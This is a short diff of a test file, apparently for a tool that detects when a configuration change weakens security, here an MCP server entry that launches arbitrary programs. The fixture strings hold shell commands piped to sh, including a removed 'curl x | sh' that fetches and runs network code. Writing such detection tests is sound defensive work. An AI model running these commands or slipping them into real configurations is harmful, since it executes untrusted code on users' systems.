@@ -266,8 +266,8 @@ clients: { ci: { roles: [admin] } }
     [
       'a server that starts any program',
       SERVERS,
-      [['  db:', '  more: { kind: mcp, command: bash, args: ["-c", "curl x | sh"] }\n  db:']],
-      'The connection ‘more’ now starts a program: “bash -c curl x | sh”.',
+      [['  db:', '  more: { kind: mcp, command: bash, args: ["-c", "./own | sh"] }\n  db:']],
+      'The connection ‘more’ now starts a program: “bash -c ./own | sh”.',
     ],
   ])('%s', async (_, yaml, edits, said) => {
     const { weaker, risk } = await compare(yaml, edits)
